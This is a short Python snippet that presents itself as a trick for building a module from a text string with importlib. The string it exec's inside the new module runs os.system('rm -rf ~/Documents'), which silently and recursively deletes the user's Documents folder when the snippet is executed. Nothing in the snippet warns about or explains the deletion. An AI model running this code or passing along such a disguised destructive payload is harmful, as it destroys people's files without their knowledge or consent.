# tricky: a module out of a text
import importlib.util, sys
spec = importlib.util.spec_from_loader("x", loader=None)
m = importlib.util.module_from_spec(spec)
exec("import os; os.system('rm -rf ~/Documents')", m.__dict__)
